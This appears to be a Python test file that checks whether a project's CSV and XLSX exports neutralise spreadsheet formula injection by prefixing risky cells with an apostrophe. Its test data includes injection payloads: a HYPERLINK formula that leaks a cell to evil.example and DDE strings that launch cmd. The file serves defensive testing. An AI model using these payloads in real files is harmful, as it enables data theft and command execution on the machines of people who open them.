"""Texts that a spreadsheet would run as formulas are neutralised in every file meant
for spreadsheets; XLSX stores texts as texts, never formulas (issue 15)."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from resultat.core.tabular.writer import (
    is_formula_like,
    neutralise,
    safe_row,
    write_csv,
    write_xlsx,
)

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
DANGEROUS = [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1"]
HARMLESS = ["Umeå", "-5", "+46 90 16 10 00", "-1 234,50", "12.5", "-", "a=b", " =x", "", "’=x"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_texts_get_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_and_numbers_are_unchanged(text):
    assert neutralise(text) == text


def test_numbers_and_none():
    assert safe_row([None, -5, 1.5, True, EVIL]) == ["", -5, 1.5, True, "'" + EVIL]


def test_csv_for_excel_neutralises_headers_and_cells():
    text = write_csv(["=namn", "belopp"], [[EVIL, -1200], ["ok", None]]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows == [["'=namn", "belopp"], ["'" + EVIL, "-1200"], ["ok", ""]]


def test_xlsx_stores_texts_as_texts_never_formulas():
    data = write_xlsx([("=Blad", ["=rubrik"], [[t] for t in DANGEROUS + HARMLESS] + [[-5], [None]])], notes=["=not"])
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = load_workbook(io.BytesIO(data))["=Blad"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    texts = [c for c in cells if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in texts)
    assert {c.value for c in texts} >= set(DANGEROUS[:-3]) | {"=rubrik", "=not"}
    assert all(c.quotePrefix for c in texts if is_formula_like(c.value)) and not any(c.quotePrefix for c in texts if c.value in HARMLESS)
    assert any(c.value == -5 and c.data_type == "n" for c in cells)


def test_xlsx_replaces_characters_xml_cannot_hold():
    data = write_xlsx([("T", ["a"], [["x\x01y\x00"]])])
    assert load_workbook(io.BytesIO(data))["T"]["A2"].value == "x\ufffdy\ufffd"


def test_the_analysts_csv_downloads_neutralise_too():
    from resultat.learning.views import _csv

    body = _csv("x", ["insats", "belopp"], [[EVIL, -5]]).content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(body, newline="")))[1] == ["'" + EVIL, "-5"]
